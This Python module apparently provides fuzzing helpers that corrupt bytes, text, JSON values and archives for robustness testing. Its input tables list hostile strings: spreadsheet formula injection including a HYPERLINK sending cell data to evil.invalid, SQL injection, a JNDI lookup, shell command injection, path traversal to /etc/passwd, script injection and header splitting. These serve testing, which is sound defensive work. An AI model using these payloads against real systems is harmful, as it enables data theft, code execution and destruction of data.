# ruff: noqa: E501 - tables of hostile inputs read best on one line
"""Ways to spoil bytes and values: what a fuzzer does first, always the same for the same dice."""

from __future__ import annotations

import io
import random
import tarfile
import zipfile
from typing import Any

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.invalid?x="&A1,"ok")', "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(A1),0)",
)  # fmt: skip
INJECTIONS = (
    "' OR '1'='1", "'; DROP TABLE member; --", '"; DROP TABLE member; --', "1; ATTACH DATABASE '/tmp/x' AS x", "%' --",
    "\\'; SELECT pg_sleep(30); --", "x' UNION SELECT password_hash FROM user_secret --", "${jndi:ldap://evil.invalid/a}",
    "{{7*7}}", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "&& touch pwned", "%s%s%s%n", "{0.__class__}",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "\\\\evil\\share", "CON", "nul.txt",
    "<script>alert(1)</script>", "a\r\nSet-Cookie: x=1", "\x00", "a\x00b", "\x1b[2J\x1b]0;owned\x07", "\u202egpj.exe", "\ufeff",
    "\u0130\u0131", "e\u0301" * 40, "🏴‍☠️" * 20, "\ud800", "\udcff", "A" * 100_000, "9" * 5_000, "-0", "1e400", "NaN", "Infinity",
    "0x7fffffffffffffff", "9223372036854775808", "१२३", "²", "", " ", "\u200b", "𝟙", "true", "null", "[]", "{}",
)  # fmt: skip
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 2**31, 2**63, -(2**63) - 1, 10**400, 1.5, float("nan"), float("inf"), "", [], {}, [[]], [None],
    {"a": 1}, {"": None}, *INJECTIONS,
)  # fmt: skip


def spoil(data: bytes, dice: random.Random) -> bytes:  # noqa: PLR0911 - one line a way
    """The bytes with something wrong."""
    if not data:
        return dice.randbytes(20)
    way, at = dice.randrange(9), dice.randrange(len(data))
    if way == 0:
        return data[:at]
    if way == 1:
        return data[at:]
    if way == 2:
        return data[:at] + dice.randbytes(dice.randint(1, 200)) + data[at:]
    if way == 3:
        return data[:at] + b"\0" * dice.randint(1, 2_000) + data[at:]
    if way == 4:
        piece = data[at : at + dice.randint(1, 400)]
        return data[:at] + piece * dice.randint(2, 60) + data[at:]
    if way == 5:
        return data[:at] + data[at + dice.randint(1, 300) :]
    if way == 6:
        return data[:at] + dice.choice(INJECTIONS)[:2_000].encode("utf-8", "surrogatepass") + data[at:]
    spoiled = bytearray(data)
    for _ in range(1 if way == 7 else max(1, len(data) // 50)):
        spoiled[dice.randrange(len(spoiled))] = dice.randrange(256)
    return bytes(spoiled)


def spoil_text(text: str, dice: random.Random) -> str:
    """The same for a text, which stays one."""
    at = dice.randrange(len(text) + 1)
    way = dice.randrange(4)
    if way == 0:
        return text[:at] + dice.choice(INJECTIONS)[:200] + text[at:]
    if way == 1:
        return text[:at] + text[at + dice.randint(1, 40) :]
    if way == 2:
        return text[:at] + "".join(
            chr(dice.choice((dice.randrange(32, 127), dice.randrange(0xD7FF)))) for _ in range(5)
        )
    words = text.split()
    return " ".join(dice.sample(words, len(words))) if words else "x"


def spoil_value(value: Any, dice: random.Random) -> Any:
    """A JSON-like value with something wrong somewhere in it."""
    if isinstance(value, dict) and value and dice.random() < 0.8:
        key = dice.choice(list(value))
        way = dice.randrange(8)
        if way == 0:
            return {name: item for name, item in value.items() if name != key}
        if way == 1:
            return {**value, dice.choice(INJECTIONS): dice.choice(VALUES)}
        return {**value, key: spoil_value(value[key], dice)}
    if isinstance(value, list) and value and dice.random() < 0.8:
        at = dice.randrange(len(value))
        return [*value[:at], spoil_value(value[at], dice), *value[at + 1 :]]
    return dice.choice(VALUES)


def deep(levels: int, *, array: bool = True) -> str:
    """JSON that lies in itself so many times."""
    return "[" * levels + "]" * levels if array else '{"a":' * levels + "1" + "}" * levels


def zipped(parts: dict[str, bytes]) -> bytes:
    """An archive of those names and contents."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def tarred(parts: list[tuple[str, bytes, str]]) -> bytes:
    """A .tar.gz of (name, content, kind): kind is file, link (content is its target), hard, device or pipe."""
    out = io.BytesIO()
    kinds = {"file": tarfile.REGTYPE, "link": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE, "device": tarfile.CHRTYPE,
             "pipe": tarfile.FIFOTYPE}  # fmt: skip
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, content, kind in parts:
            entry = tarfile.TarInfo(name)
            entry.type = kinds[kind]
            if kind == "file":
                entry.size = len(content)
            else:
                entry.linkname = content.decode()
            archive.addfile(entry, io.BytesIO(content) if kind == "file" else None)
    return out.getvalue()
